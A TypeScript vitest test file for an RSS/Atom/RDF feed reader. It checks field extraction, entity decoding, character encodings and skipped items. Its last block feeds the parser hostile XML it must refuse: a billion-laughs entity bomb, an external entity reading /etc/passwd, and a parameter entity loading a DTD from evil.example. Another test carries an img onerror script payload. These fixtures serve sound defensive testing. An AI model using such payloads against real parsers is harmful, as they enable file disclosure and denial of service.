import { describe, expect, test } from 'vitest';
import { readText } from './collect.ts';

const rss = (items: string, head = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${head}<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/">\n<channel><title>Fjord Times</title><link>http://f.example/</link><image><title>Logo</title></image>\n${items}\n</channel></rss>`;

test('RSS 2.0: fields, dates, HTML made plain, the feed as publisher', async () => {
  const read = await readText(
    rss(`<item>
  <title>Norway &amp;amp; Finland sign</title>
  <link>http://f.example/1?a=1&amp;b=2</link>
  <guid isPermaLink="false">77</guid>
  <pubDate>Tue, 04 Jan 2022 10:15:00 +0100</pubDate>
  <dc:creator>A. Writer</dc:creator>
  <description><![CDATA[<p>They signed &ldquo;it&rdquo;.</p><img src="x.png" onerror="alert(1)"/><p>In Oslo.</p>]]></description>
  <content:encoded><![CDATA[<p>The whole article</p>]]></content:encoded>
  <media:group><media:title>never the title</media:title></media:group>
</item>
<item><title>Second</title><description>Plain &lt;b&gt;bold&lt;/b&gt; text</description><source url="http://w.example">The Wire</source></item>`),
    'rss',
  );
  expect(read.snippets).toMatchObject([
    {
      title: 'Norway & Finland sign',
      body: 'They signed “it”.\nIn Oslo.',
      url: 'http://f.example/1?a=1&b=2',
      publisher: 'Fjord Times',
      publishedAt: '2022-01-04T09:15:00Z',
    },
    { title: 'Second', body: 'Plain bold text', publisher: 'The Wire', url: null, publishedAt: null },
  ]);
  expect(read.lines).toEqual([4, 14]);
});

test('Atom: types of text, links, updated for published, the source of a copy', async () => {
  const { snippets } = await readText(
    `<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">Bay &amp;amp; Sea</title>
    <entry><title>1 &lt; 2 stays</title><link rel="self" href="http://b.example/self"/><link href="http://b.example/1"/>
      <updated>2022-01-04T10:15:00Z</updated><author><name>Someone</name></author>
      <summary type="html">&lt;p&gt;A &amp;amp; B&lt;/p&gt;</summary><content type="html">all of it</content></entry>
    <entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Two <b>words</b></div></title>
      <published>2022-01</published><updated>2022-02</updated>
      <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>First &lt;line&gt;</p><p>Second</p></div></content>
      <source><title>Origin</title><id>x</id></source></entry></feed>`,
    'atom',
  );
  expect(snippets).toMatchObject([
    {
      title: '1 < 2 stays',
      body: 'A & B',
      url: 'http://b.example/1',
      publisher: 'Bay & Sea',
      publishedAt: '2022-01-04T10:15:00Z',
    },
    { title: 'Two words', body: 'First <line>\nSecond', url: null, publisher: 'Origin', publishedAt: '2022-01' },
  ]);
});

test('RDF, prefixes and a declared encoding', async () => {
  const text = `<?xml version="1.0" encoding="ISO-8859-1"?><rdf:RDF xmlns:rdf="r" xmlns="http://purl.org/rss/1.0/" xmlns:dc="d"><channel><title>Café</title></channel><item rdf:about="x"><title>Pact in Málaga</title><description>D</description><dc:date>2022-01-04</dc:date></item></rdf:RDF>`;
  const { snippets } = await readText(Buffer.from(text, 'latin1'), 'xml');
  expect(snippets).toMatchObject([{ title: 'Pact in Málaga', publisher: 'Café', publishedAt: '2022-01-04' }]);
});

test('a feed in windows-1252 that says so', async () => {
  const text =
    '<?xml version="1.0" encoding="windows-1252"?><rss><channel><item><title>\x93Caf\xe9\x94</title></item></channel></rss>';
  const { snippets } = await readText(Buffer.from(text, 'latin1'), 'xml');
  expect(snippets[0]?.title).toBe('“Café”');
});

test('--map takes the names of elements', async () => {
  const item = '<item><title>T</title><description>D</description><content:encoded>E</content:encoded></item>';
  const { snippets } = await readText(rss(item), 'rss', { map: { body: 'content:encoded' } });
  expect(snippets).toMatchObject([{ title: 'T', body: 'E' }]);
});

test('an item without text is skipped with its line; one that is too long too', async () => {
  const long = `<item><title>L</title><description>${'a'.repeat(5_100_000)}</description></item>`;
  const read = await readText(rss(`<item><link>x</link></item>\n${long}\n<item><title>T</title></item>`), 'rss');
  expect(read.skipped.map(({ line, code }) => [line, code])).toEqual([
    [4, 'unreadable'],
    [5, 'too-long'],
  ]);
  expect(read.snippets.map((snippet) => snippet.title)).toEqual(['T']);
});

test('a feed without items holds no documents', async () => {
  expect((await readText(rss(''), 'rss')).notices).toEqual(['no documents']);
  expect((await readText('', 'rss')).notices).toEqual(['no documents']);
});

const laughs = `<!DOCTYPE lolz [<!ENTITY a "lol">${[...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;

describe('hostile XML is refused, with the line', () => {
  test.each([
    ['a billion laughs', rss('<item><title>&j;</title></item>', laughs), /line 2: the document type declares entities/],
    [
      'an external entity',
      rss('<item><title>&x;</title></item>', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      /declares entities/,
    ],
    [
      'a parameter entity',
      rss('', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'),
      /declares entities/,
    ],
    [
      'an entity that nothing declares',
      rss('<item><title>&nobody;</title></item>'),
      /line 4: not well-formed XML \(invalid character entity\)/,
    ],
    ['a declaration outside a document type', rss('<!ENTITY a><item><title>T</title></item>'), /declares entities/],
    ['such a one with quotes', rss('<!ENTITY a "x"><item><title>T</title></item>'), /not well-formed XML/],
    ['200,000 levels', `<rss>${'<a>'.repeat(200_000)}`, /elements nest deeper than 256/],
    ['a tag that closes another', rss('<item><title>T</item></title>'), /line 4: not well-formed XML/],
    ['a bare ampersand', rss('<item><title>A & B</title></item>'), /not well-formed XML/],
    ['a torn end', '<rss><channel><item><title>T</title>', /not well-formed XML \(unclosed root tag/],
    ['a web page', '<html><body><p>x</p></body></html>', /line 1: <html> is neither RSS nor Atom/],
    [
      'an attribute of a megabyte',
      rss(`<item a="${'x'.repeat(1_000_000)}"><title>T</title></item>`),
      /max buffer length/,
    ],
    ['no XML', 'title,body\n1,2', /not well-formed XML \(non-whitespace before first tag/],
  ])('%s', async (_, text, message) => {
    await expect(readText(text, 'xml')).rejects.toThrow(message);
  });

  test('a document type that declares nothing is harmless', async () => {
    const { snippets } = await readText(
      rss(
        '<item><title>T</title></item>',
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://n.example/rss.dtd">',
      ),
      'rss',
    );
    expect(snippets).toHaveLength(1);
  });

  test('a million numeric references are a long text and no more', async () => {
    const read = await readText(
      rss(`<item><title>T</title><description>${'&#65;'.repeat(1_000_000)}</description></item>`),
      'rss',
    );
    expect(read.snippets[0]?.body).toHaveLength(1_000_000);
  });
});
